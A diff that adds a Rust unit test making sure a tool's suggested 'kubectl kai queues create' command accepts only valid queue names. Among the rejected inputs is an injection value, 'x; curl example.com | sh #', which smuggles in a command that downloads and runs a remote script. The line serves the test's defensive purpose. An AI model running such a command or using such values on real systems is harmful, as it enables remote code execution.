@@ -357,3 +357,22 @@ fn help_comes_with_its_cost_and_its_command() {
         assert!(last.admin && !last.cost.is_empty(), "{last:?}");
     }
 }
+
+/// An administrator would run what a user wrote.
+#[test]
+fn only_what_can_be_a_queue_is_part_of_a_command() {
+    for (queue, expect) in [
+        ("team-x", Some("kubectl kai queues create team-x")),
+        ("x; curl example.com | sh #", None),
+        ("--all", None),
+        ("a\nb", None),
+        ("", None),
+    ] {
+        let mut names = world();
+        names.groups[0].queue = Some(names.queue(queue).number());
+        let (why, cluster) = (Why::QueueMissing, Cluster::default());
+        let asked = Asked { group: 0, why: &why, proofs: &[], cluster: &cluster, names: &names };
+        let said = explanation(asked).expect("it waits");
+        assert_eq!(said.help[0].command.as_deref(), expect, "{queue}");
+    }
+}
